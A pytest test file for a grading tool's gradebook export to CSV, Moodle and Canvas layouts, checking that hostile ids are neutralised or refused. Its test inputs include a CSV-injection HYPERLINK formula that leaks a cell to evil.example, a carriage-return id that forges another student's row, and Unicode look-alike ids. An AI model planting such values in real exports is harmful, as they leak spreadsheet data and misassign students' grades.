"""``knockout gradebook`` (issue 36): one row per student with each question's final grade (expert, calibrated,
judge), written as plain CSV and in the import layouts of Moodle and Canvas, then read back by small parsers
written from those systems' documentation.  The judge is the scripted SIMULATION, not an LLM."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from knockout.cli import register_extensions
from knockout.cli._main import app

TEACHER = Path(__file__).resolve().parents[1] / "src" / "knockout" / "examples" / "teacher_exam.jsonl"
#: a lenient simulated judge (every grade 20% of the maximum too high): the teacher's grades move it
LENIENT = "scripted?inflation=0.2&noise=0.05"


def launcher() -> str:
    """How a command line started as ``knockout`` is stored to run again (its full path when that is not on PATH,
    as under ``make test``)."""
    from unittest import mock

    from knockout.cli._common import knockout_command

    with mock.patch.object(sys, "argv", ["knockout"]):
        return knockout_command()


def cli(*args: str, code: int = 0) -> tuple[str, str]:
    register_extensions(app)
    r = CliRunner().invoke(app, list(args))
    assert r.exit_code == code, r.output
    return r.stdout, r.stderr


def records() -> list[dict[str, object]]:
    return [json.loads(x) for x in TEACHER.read_text().splitlines() if x.strip()]


def expert_grades() -> dict[tuple[str, str], float]:
    """(question, examinee) -> the teacher's grade in the data file."""
    return {(str(r["question_id"]), str(r["examinee"])): float(next(iter(r["human_scores"].values())))  # type: ignore[attr-defined]
            for r in records() if r["type"] == "answer" and r.get("human_scores")}


def grade(*args: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """``knockout grade ARGS`` in this process, with the command line it would have (the run stores it)."""
    monkeypatch.setattr(sys, "argv", ["knockout", "grade", *args])
    cli("grade", *args)


@pytest.fixture(scope="module")
def graded_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("graded") / "t.db"
    with pytest.MonkeyPatch.context() as monkeypatch:
        grade(str(TEACHER), "--judge", LENIENT, "--reference", "--out", str(db), "--json", "--quiet",
              monkeypatch=monkeypatch)
    return db


@pytest.fixture()
def graded(graded_once: Path, tmp_path: Path) -> Path:
    """The teacher's exam graded by the lenient simulated judge: graded once per module, a copy per test (tests
    change it)."""
    db = tmp_path / "t.db"
    src, dst = sqlite3.connect(graded_once), sqlite3.connect(db)
    try:
        src.backup(dst)
    finally:
        src.close()
        dst.close()
    return db


# -- parsers of the import layouts, written from the systems' documentation ------------------------------------

MOODLE_IDS = ("Email address", "ID number", "Username", "User ID")


def parse_moodle(text: str) -> tuple[str, dict[str, dict[str, float | None]]]:
    """Moodle's CSV grade import (docs.moodle.org, "Grade import"): a header row; one column identifies the
    user (mapped from the file to useremail, useridnumber, username or userid); every other column is mapped to
    a grade item; a cell is a number, or empty for no grade.  Returns (identifier field, user -> item -> grade)."""
    rows = list(csv.reader(io.StringIO(text)))
    head, body = rows[0], rows[1:]
    ids = [i for i, h in enumerate(head) if h in MOODLE_IDS]
    assert len(ids) == 1, head
    at = ids[0]
    out: dict[str, dict[str, float | None]] = {}
    for row in body:
        assert len(row) == len(head), row
        user = row[at]
        assert user and user not in out
        cells = enumerate(zip(head, row, strict=True))
        out[user] = {h: (float(v) if v.strip() else None) for i, (h, v) in cells if i != at}
    return head[at], out


CANVAS_FIXED = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


def parse_canvas(text: str) -> tuple[dict[str, float], dict[str, dict[str, float | None]]]:
    """Canvas's gradebook CSV (Canvas guides, "How do I import grades in the Gradebook?"): the columns Student,
    ID, SIS User ID, SIS Login ID, Section, then one column per assignment (``Name (id)`` for an existing one,
    ``Name`` for a new one); an optional "Points Possible" row; each student row is matched by ID, SIS User ID
    or SIS Login ID.  Returns (assignment -> points possible, student key -> assignment -> score)."""
    rows = list(csv.reader(io.StringIO(text)))
    head = rows[0]
    assert head[:5] == CANVAS_FIXED, head
    names = [re.sub(r" \(\d+\)$", "", h) for h in head[5:]]
    points: dict[str, float] = {}
    out: dict[str, dict[str, float | None]] = {}
    for row in rows[1:]:
        assert len(row) == len(head), row
        if row[0].strip() == "Points Possible":
            points = {n: float(v) for n, v in zip(names, row[5:], strict=True)}
            continue
        key = row[1] or row[2] or row[3]
        assert key, f"a row Canvas cannot match to a student: {row}"
        out[key] = {n: (float(v) if v.strip() else None) for n, v in zip(names, row[5:], strict=True)}
    return points, out


def parse_plain(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# -- tests --------------------------------------------------------------------------------------------------------

def test_plain_gradebook_expert_then_calibrated(graded: Path, tmp_path: Path) -> None:
    out = tmp_path / "book.csv"
    _, err = cli("gradebook", str(graded), "-o", str(out))
    assert "SIMULATION" in err and "6 expert, 12 calibrated, 0 judge, 0 none" in err
    rows = parse_plain(out.read_text())
    assert [r["student"] for r in rows] == ["ada", "ben", "cleo", "dan", "eva", "finn"]
    experts = expert_grades()
    for r in rows:
        total = 0.0
        for q, mx in (("teach/1", 2), ("teach/2", 3), ("teach/3", 4)):
            grade = float(r[q])
            assert 0 <= grade <= mx
            total += grade
            if (q, r["student"]) in experts:
                assert r[f"{q} source"] == "expert" and grade == experts[(q, r["student"])]
                assert r[f"{q} error"] == ""
            else:
                assert r[f"{q} source"] == "calibrated" and float(r[f"{q} error"]) >= 0
        assert float(r["total"]) == pytest.approx(total, abs=0.011) and r["max_total"] == "9"
        assert r["calibration"] == "adapted to the teacher's level on 6 teacher grades"


def test_moodle_and_canvas_layouts_import(graded: Path, tmp_path: Path) -> None:
    plain = {r["student"]: r for r in parse_plain(cli("gradebook", str(graded))[0])}
    email = {s: f"{s}@school.example" for s in plain}
    field, moodle = parse_moodle(cli("gradebook", str(graded), "--format", "moodle", "--id-column", "email")[0])
    assert field == "Email address" and set(moodle) == set(email.values())
    for s, r in plain.items():
        assert moodle[email[s]] == {q: float(r[q]) for q in ("teach/1", "teach/2", "teach/3")}
    field, by_id = parse_moodle(cli("gradebook", str(graded), "--format", "moodle")[0])
    assert field == "ID number" and set(by_id) == set(plain)
    (tmp_path / "canvas.csv").unlink(missing_ok=True)
    cli("gradebook", str(graded), "--format", "canvas", "--id-column", "email", "-o", str(tmp_path / "canvas.csv"))
    points, canvas = parse_canvas((tmp_path / "canvas.csv").read_text())
    assert points == {"teach/1": 2.0, "teach/2": 3.0, "teach/3": 4.0}
    assert set(canvas) == set(email.values())
    for s, r in plain.items():
        assert canvas[email[s]] == {q: float(r[q]) for q in points}


def test_web_grade_is_an_expert_grade_and_judge_without_experts(graded: Path, tmp_path: Path) -> None:
    from knockout.annotations import ExamGrades
    from knockout.storage import Store

    cli("import", str(TEACHER), "--db", str(graded))
    with Store(graded) as store:
        exams = ExamGrades(store)
        exam = exams.exam("teach")
        assert exam is not None
        answer = next(a for e in exam.examinees for a in e.answers.values() if a.id == "teach/3/finn")
        exams.save_grade(answer=answer, question=exam.question("teach/3"), exam_id="teach",  # type: ignore[arg-type]
                         grader="prof", score=3.5, comment="", base_version=0)
    rows = {r["student"]: r for r in parse_plain(cli("gradebook", str(graded))[0])}
    assert rows["finn"]["teach/3"] == "3.5" and rows["finn"]["teach/3 source"] == "expert"
    # no expert grades at all: the judge's grades, said so
    bare = tmp_path / "bare.jsonl"
    bare.write_text("".join(json.dumps({k: v for k, v in r.items() if k != "human_scores"}) + "\n" for r in records()))
    db = tmp_path / "bare.db"
    cli("grade", str(bare), "--judge", LENIENT, "--out", str(db), "--json", "--quiet")
    out, err = cli("gradebook", str(db))
    assert "0 expert, 0 calibrated, 18 judge" in err and "no expert grades" in err
    assert {r["teach/1 source"] for r in parse_plain(out)} == {"judge"}


def test_python_function_and_refusals(graded: Path) -> None:
    import knockout
    from knockout.storage import Store

    book = knockout.gradebook(graded, id_column="email")
    assert len(book.students) == 6 and book.counts() == {"expert": 6, "calibrated": 12, "judge": 0, "none": 0,
                                                         "needs expert": 0, "flagged": 0, "grade model": 0,
                                                         "readers disagree": 0}
    assert book.calibration is not None and book.calibration["map"] == "adapt"
    with Store(graded) as store:
        (run,) = store.runs()
        store.end_run(run.id, "interrupted", "stopped by the user")
    _, err = cli("gradebook", str(graded), code=2)
    assert f"run {run.id} is interrupted" in err and "pass --partial" in err
    assert f"resume it with: {launcher()} grade {TEACHER} --judge" in err  # the command stored with the run
    out, err = cli("gradebook", str(graded), "--partial")
    assert "interrupted: its grades are partial" in err and len(parse_plain(out)) == 6
    cli("gradebook", str(graded), "--format", "xls", code=2)
    _, err = cli("gradebook", str(graded), "--partial", "--id-column", "phone", code=2)
    assert "has no 'phone'" in err


# -- issue 42: gradebook files an LMS and a spreadsheet read safely ------------------------------------------------
#
# The readers below follow the importers' code, not only their documentation:
# * Moodle: lib/csvlib.class.php (csv_import_reader::load_csv_content: the BOM removed, every "\r\n" and lone "\r"
#   turned into "\n", the content trimmed, then fgetcsv) and grade/import/csv/classes/load_data.php (every value
#   trimmed; the user column read only when !empty($value), so "" and "0" keep the user of the row before; an
#   empty cell or "-" is "no grade", which clears the grade there);
# * Canvas: app/models/gradebook_importer.rb (a header Student, ID[, SIS User ID, SIS Login ID], Section; trailing
#   total columns dropped; "Name (12345)" is the existing assignment 12345; a row whose first cell matches
#   /Points Possible/ is the points row; a row is matched by ID, SIS User ID, SIS Login ID, then the name).

def read_moodle(text: str) -> tuple[list[str], list[tuple[str | None, dict[str, float | None]]]]:
    """(header, [(user the row's grades go to, item -> grade)]) as Moodle's CSV grade import reads them."""
    text = re.sub(r"\r\n?", "\n", text.lstrip("\ufeff")).strip()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    head = [h.strip() for h in rows[0]]
    at = next(i for i, h in enumerate(head) if h in MOODLE_IDS)
    user: str | None = None  # not reset between rows, as in load_data.php
    out: list[tuple[str | None, dict[str, float | None]]] = []
    for line in rows[1:]:
        if len(line) <= 1:
            continue
        values = [v.strip(" \t\n\r\0\x0b") for v in line]
        if values[at] not in ("", "0"):  # PHP's !empty()
            user = values[at]
        cells = enumerate(zip(head, values, strict=True))
        out.append((user, {h: None if v in ("", "-") else float(v) for i, (h, v) in cells if i != at}))
    return head, out


CANVAS_TOTALS = re.compile(r"Current Score|Current Points|Final Score|Final Points|Final Grade")


def read_canvas(text: str) -> tuple[list[tuple[str, str | None]], dict[str, str], list[tuple[str, dict[str, str]]]]:
    """([(assignment title, existing id or None)], points possible, [(student key, title -> cell)]) as Canvas's
    gradebook importer reads them."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    head = rows[0]
    assert re.search("Student", head[0]) and re.search("ID", head[1])
    columns = 5 if re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3]) else 3
    assert re.search("Section", head[columns - 1])
    names = head[columns:]
    while names and CANVAS_TOTALS.search(names[-1]):
        names.pop()
    assignments = [(m[1], m[2]) if (m := re.fullmatch(r"(.*)\s\((\d+)\)", n)) else (n, None) for n in names]
    points: dict[str, str] = {}
    students: list[tuple[str, dict[str, str]]] = []
    for row in rows[1:]:
        if re.search("Points Possible", row[0]):
            points = dict(zip([a for a, _ in assignments], row[columns:], strict=True))
            continue
        if all(re.fullmatch(r"(?i)(Muted|)", c.strip()) for c in row):
            continue
        key = row[1] or row[2] or row[3] or row[0]
        students.append((key, dict(zip([a for a, _ in assignments], row[columns:], strict=True))))
    return assignments, points, students


def exam_store(tmp_path: Path, examinees: list[str], question: str = "quiz/1") -> Path:
    """A store graded by the scripted judge (a SIMULATION) whose answers all have an expert grade: examinee
    ``i`` has ``i % 3`` points of 2."""
    rows: list[dict[str, object]] = [{"type": "question", "id": question, "text": "What does DNS do?",
                                      "max_points": 2}]
    rows += [{"type": "answer", "id": f"a{i}", "question_id": question, "examinee": e, "text": f"answer {i}",
              "human_score": i % 3} for i, e in enumerate(examinees)]
    data = tmp_path / "exam.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows))
    db = tmp_path / "g.db"
    cli("grade", str(data), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
    return db


def one_error(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


def test_a_cr_in_an_id_cannot_add_a_row_for_another_student(tmp_path: Path) -> None:
    """``zz\\rs_victim`` (2 points) beside ``s_victim`` (0 points): written unquoted, Moodle read a second
    ``s_victim`` row after the real one, with the attacker's grade."""
    db = exam_store(tmp_path, ["s_victim", "zz\rs_victim", "x"])
    _, rows = read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])
    assert [u for u, _ in rows].count("s_victim") == 1
    assert [g for u, g in rows if u == "s_victim"] == [{"quiz/1": 0.0}]
    assert ("zz\ns_victim", {"quiz/1": 1.0}) in rows  # one user that Moodle does not know: the import stops
    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
    assert [k for k, _ in students].count("s_victim") == 1
    plain = cli("gradebook", str(db))[0]
    assert '"zz\rs_victim"' in plain
    assert [r["student"] for r in csv.DictReader(io.StringIO(plain, newline=""))] == ["s_victim", "x", "zz\rs_victim"]


@pytest.mark.parametrize("sid", ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1", "@SUM(A1:A9)",
                                 "\tadmin"])
def test_formula_ids_neutralised_in_plain_refused_for_an_lms(sid: str, tmp_path: Path) -> None:
    """OWASP, CSV Injection: a cell starting with =, +, -, @ or a tab is run by a spreadsheet.  The plain layout
    prefixes it with a single quote; Moodle and Canvas must match the id as it is: refused, one line."""
    db = exam_store(tmp_path, ["ada", sid])
    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
    assert [r[0] for r in rows[1:]] == sorted(["ada", "'" + sid], key=lambda s: s.lstrip("'"))
    assert all(not c.startswith(("=", "+", "-", "@", "\t")) for r in rows for c in r[:1] + r[-1:])
    for fmt in ("moodle", "canvas"):
        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
        line = one_error(err)
        # the line names the id (a URL's query in it is redacted like any printed URL's: knockout._redact)
        assert out == "" and "formula" in line and repr(sid).split("?")[0] in line, line


@pytest.mark.parametrize("pair", [("Ann", "ann"), ("bob", "bob ")])
def test_ids_equal_after_the_lms_normalisation_are_refused(pair: tuple[str, str], tmp_path: Path) -> None:
    db = exam_store(tmp_path, list(pair))
    for fmt in ("moodle", "canvas"):
        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
        assert all(repr(s) in line for s in pair) and "ignores case" in line
    assert len(parse_plain(cli("gradebook", str(db))[0])) == 2  # the plain layout is no import


def test_moodle_id_0_is_refused(tmp_path: Path) -> None:
    """Moodle skips a user cell that is empty or 0 and gives the row's grades to the student of the row before."""
    db = exam_store(tmp_path, ["ada", "0"])
    line = one_error(cli("gradebook", str(db), "--format", "moodle", code=2)[1])
    assert "'0'" in line and "Moodle skips" in line
    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
    assert sorted(k for k, _ in students) == ["0", "ada"]


def test_canvas_student_points_possible_is_refused(tmp_path: Path) -> None:
    db = exam_store(tmp_path, ["ada", "Points Possible"])
    line = one_error(cli("gradebook", str(db), "--format", "canvas", code=2)[1])
    assert "'Points Possible'" in line and "points row" in line
    _, rows = read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])
    assert [u for u, _ in rows] == ["Points Possible", "ada"]


def test_canvas_question_like_an_existing_assignment_is_refused(tmp_path: Path) -> None:
    db = exam_store(tmp_path, ["ada", "ben"], question="Quiz (12345)")
    line = one_error(cli("gradebook", str(db), "--format", "canvas", code=2)[1])
    assert "'Quiz (12345)'" in line and "existing" in line
    assert read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])[0] == ["ID number", "Quiz (12345)"]


def test_empty_cells_are_not_written_for_moodle_unless_asked_and_are_counted(graded: Path) -> None:
    """An answer without a grade: an empty cell clears the grade Moodle has; refused unless --write-empty, and
    every answer left out is counted on stderr."""
    from knockout.storage import Store

    with Store(graded) as store:
        (run,) = store.runs()
        store.db.execute("DELETE FROM results WHERE run_id = ? AND item_id = 'teach/2/cleo'", (run.id,))
        store.end_run(run.id, "interrupted", "stopped by the user")
    line = one_error(cli("gradebook", str(graded), "--partial", "--format", "moodle", code=2)[1])
    assert "1 answer(s) without a grade (cleo teach/2)" in line and "--write-empty" in line
    out, err = cli("gradebook", str(graded), "--partial", "--format", "moodle", "--write-empty")
    _, rows = read_moodle(out)
    assert dict(rows)["cleo"]["teach/2"] is None and dict(rows)["ada"]["teach/2"] is not None
    assert "left out: 1 no grade (cleo teach/2)" in err
    _, err = cli("gradebook", str(graded), "--partial", "--format", "canvas")
    assert "left out: 1 no grade (cleo teach/2)" in err


def test_unusable_web_grades_are_counted(graded: Path) -> None:
    import time

    cli("import", str(TEACHER), "--db", str(graded))
    con = sqlite3.connect(graded)
    now = time.time()
    for aid, score in (("teach/2/cleo", "a lot"), ("teach/2/eva", float("inf")), ("teach/3/finn", 99.0)):
        con.execute("INSERT INTO human_grades (answer_id, grader, question_id, exam_id, score, version, created, "
                    "updated) VALUES (?, 'bob', ?, 'teach', ?, 1, ?, ?)", (aid, aid.rsplit("/", 1)[0], score, now, now))
    con.commit()
    con.close()
    _, err = cli("gradebook", str(graded))
    assert ("left out: 2 web grade not a number (teach/2/cleo, teach/2/eva); 1 web grade out of range "
            "(teach/3/finn)") in " ".join(err.split())


# -- issue 49: ids as the LMS's collation compares them, formula look-alikes ------------------------------------

#: two ids that MySQL's utf8mb4_unicode_ci (Moodle's recommended collation) reads as one, and so does Canvas
UNICODE_TWINS = [("zo\u00e9", "zoe\u0301"),  # NFC and NFD
                 ("alice", "\uff41lice"),  # fullwidth
                 ("IX7", "\u21687"),  # the Roman numeral nine
                 ("bob", "\U0001d41b\U0001d428\U0001d41b"),  # mathematical bold
                 ("a1", "\u24d01"),  # circled
                 ("dave", "dave\u00a0"),  # a trailing NBSP
                 ("erin", "\u200berin\ufeff"),  # ZWSP and BOM
                 ("STRASSE", "stra\u00dfe")]  # case folding


@pytest.mark.parametrize("pair", UNICODE_TWINS, ids=[ascii(p[1]) for p in UNICODE_TWINS])
def test_ids_equal_to_the_lms_collation_are_refused(pair: tuple[str, str], tmp_path: Path) -> None:
    """Each pair was written as two students in the Moodle and Canvas layouts; the LMS has one user for both."""
    db = exam_store(tmp_path, list(pair))
    for fmt in ("moodle", "canvas"):
        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
        line = one_error(err)
        assert out == "" and all(repr(s) in line for s in pair) and "ignores case" in line, line
    assert len(parse_plain(cli("gradebook", str(db))[0])) == 2  # the plain layout is no import


def test_accents_are_folded_for_moodle_only(tmp_path: Path) -> None:
    """utf8mb4_unicode_ci equates ``jose`` and ``josé`` (Moodle); Canvas's PostgreSQL lookups do not."""
    db = exam_store(tmp_path, ["jose", "jos\u00e9"])
    line = one_error(cli("gradebook", str(db), "--format", "moodle", code=2)[1])
    assert "'jose'" in line and "'jos\u00e9'" in line and "accents" in line
    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
    assert sorted(k for k, _ in students) == ["jose", "jos\u00e9"]


def test_question_ids_equal_to_the_lms_are_refused(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [{"type": "question", "id": q, "text": "What does DNS do?", "max_points": 2}
                                     for q in ("Q1", "\uff31\uff11")]
    rows += [{"type": "answer", "id": f"a{i}", "question_id": q, "examinee": "ada", "text": "It maps names.",
              "human_score": 1} for i, q in enumerate(("Q1", "\uff31\uff11"))]
    (tmp_path / "exam.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    db = tmp_path / "g.db"
    cli("grade", str(tmp_path / "exam.jsonl"), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
    for fmt in ("moodle", "canvas"):
        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
        assert "'Q1'" in line and "'\uff31\uff11'" in line and "same grade item" in line, line


FORMULA_LOOK_ALIKES = [" =1+1", "\u00a0=1+1", "\x0b=1+1", "\x0c=1+1", "\n=1+1", "\ufeff=1+1", "\u200b=1+1",
                       "\uff1dSUM(A1)", "\ufe661+1", "\u207c1+1", "\uff0b1", "\uff20SUM(A1)", "\u22121",
                       "\uff0d1", "\u3000=1"]


@pytest.mark.parametrize("sid", FORMULA_LOOK_ALIKES, ids=[ascii(s) for s in FORMULA_LOOK_ALIKES])
def test_formula_look_alikes_neutralised_in_plain_refused_for_an_lms(sid: str, tmp_path: Path) -> None:
    """A formula character after blanks or invisible characters, or a fullwidth or small form of = + - @, was
    written as it is in every layout."""
    from knockout.reports._gradebook import formula_lead

    assert formula_lead(sid) is not None
    db = exam_store(tmp_path, ["ada", sid])
    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
    assert "'" + sid in [r[0] for r in rows[1:]]
    for fmt in ("moodle", "canvas"):
        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
        line = one_error(err)
        assert out == "" and "formula" in line, line


@pytest.mark.parametrize("question", [" =1+1", "\uff1dSUM(A1)"])
def test_formula_look_alike_question_ids(question: str, tmp_path: Path) -> None:
    db = exam_store(tmp_path, ["ada", "ben"], question=question)
    head = next(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
    assert head[1] == "'" + question
    for fmt in ("moodle", "canvas"):
        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
        assert "question" in line and "formula" in line, line


def test_ordinary_ids_are_not_formulas() -> None:
    from knockout.reports._gradebook import formula_lead, lms_key, neutralise

    for cell in ("ada", "jos\u00e9", "\u00e9=1", "a=1", "1-2", "", " ", "\u200b"):
        assert formula_lead(cell) is None and neutralise(cell) == cell
    assert lms_key(" Zo\u00e9\u00a0") == lms_key("zoe\u0301") == "zo\u00e9"
    assert lms_key("Jos\u00e9", fold_accents=True) == "jose"


def test_export_csv_neutralises_as_the_gradebook_does(tmp_path: Path) -> None:
    """``knockout export --format csv`` wrote a formula-leading id raw where the gradebook neutralised it; both
    now go through the one function."""
    from knockout.data import _csv
    from knockout.reports import _gradebook

    assert _gradebook.neutralise is _csv.neutralise  # export writes through _csv's Writer (tests/test_csv_writers)
    question = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    db = exam_store(tmp_path, ["ada", "\uff20ben"], question=question)
    rows = list(csv.DictReader(io.StringIO(cli("export", str(db), "--format", "csv")[0], newline="")))
    assert {r["question_id"] for r in rows} == {"'" + question}
    tidy = list(csv.DictReader(io.StringIO(cli("export", str(db), "--table", "answers", "--format", "csv")[0],
                                           newline="")))
    assert all(not c.startswith(("=", "+", "-", "@", "\uff20")) for r in tidy for c in r.values()), tidy
    jsonl = cli("export", str(db), "--format", "jsonl")[0]
    assert {json.loads(x)["question_id"] for x in jsonl.splitlines()} == {question}  # JSON is no spreadsheet


@pytest.mark.parametrize("value", [["a@x.org", "b@x.org"], {"work": "a@x.org"}, 1.5, True])
def test_an_id_column_that_is_not_a_text_is_refused(value: object, tmp_path: Path) -> None:
    """``meta.email`` given as a list or an object was written as its Python spelling (``['a@x.org', ...]``)."""
    rows: list[dict[str, object]] = [{"type": "question", "id": "q1", "text": "What does DNS do?", "max_points": 2}]
    rows += [{"type": "answer", "id": f"a{i}", "question_id": "q1", "examinee": f"e{i}", "text": "It maps names.",
              "human_score": 1, "meta": {"email": v}} for i, v in enumerate(["c@x.org", value])]
    (tmp_path / "exam.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    db = tmp_path / "g.db"
    cli("grade", str(tmp_path / "exam.jsonl"), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
    for fmt in ("csv", "moodle"):
        out, err = cli("gradebook", str(db), "--format", fmt, "--id-column", "email", code=2)
        line = one_error(err)
        assert out == "" and "exam.jsonl" in line and "a1" in line and "meta.email" in line, line


# -- ids as the LMS's database compares them (issue 60 item 2) ----------------------------------------------------

#: pairs MySQL's utf8mb4_unicode_ci and utf8mb4_0900_ai_ci (the UCA at primary strength) fold together and NFD does
#: not: strokes, ligatures; and (utf8mb4_unicode_ci only) characters beyond the BMP, which all weigh as U+FFFD
UCA_PAIRS = [("bjorn", "bj\u00f8rn"), ("lodz", "\u0142odz"), ("caesar", "c\u00e6sar"), ("dan", "\u0111an"),
             ("hana", "\u0127ana"), ("oeuvre", "\u0153uvre"), ("strasse", "stra\u00dfe"),
             ("kim\U0001f363", "kim\U0001f37a"), ("lee\U00020000", "lee\U0002a6d6")]


@pytest.mark.parametrize(("a", "b"), UCA_PAIRS, ids=[ascii(b) for _, b in UCA_PAIRS])
def test_ids_the_uca_folds_are_refused_for_moodle(a: str, b: str, tmp_path: Path) -> None:
    """Before: the check folded accents by NFD, so bjorn/bjørn, lodz/łodz, caesar/cæsar and kim🍣/kim🍺 became two
    Moodle rows, one user in MySQL's collation."""
    db = exam_store(tmp_path, [a, b])
    out, err = cli("gradebook", str(db), "--format", "moodle", code=2)
    line = one_error(err)
    assert out == "" and repr(a) in line and repr(b) in line and "same to the LMS" in line, line
    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))  # the plain layout: both
    assert {a, b} <= {r[0] for r in rows[1:]}


def test_the_collations_keys() -> None:
    from knockout.reports._gradebook import collation_key

    def same(a: str, b: str, c: str) -> bool:
        return bool(collation_key(a, c) == collation_key(b, c))

    assert same("kim\U0001f363", "kim\U0001f37a", "utf8mb4_unicode_ci")  # supplementary: all as U+FFFD
    assert not same("kim\U0001f363", "kim\U0001f37a", "utf8mb4_0900_ai_ci")  # 9.0.0 weighs emoji apart
    for c in ("utf8mb4_unicode_ci", "utf8mb4_0900_ai_ci"):
        assert same("Bj\u00f8rn", "BJORN", c) and same("\uff41lice", "alice", c) and same("a\u200bb", "ab", c)
        assert same(" ada\u00a0", "ada", c)  # the importer's trim
        assert not same("a-b", "ab", c) and not same("kim", "kim\U0001f363", c) and not same("ann", "anna", c)


def test_distinct_ids_pass_every_collation(tmp_path: Path) -> None:
    db = exam_store(tmp_path, ["bjorn", "bjork", "a-b", "ab", "kim"])
    assert cli("gradebook", str(db), "--format", "moodle", "--write-empty")[0].count("\n") == 6
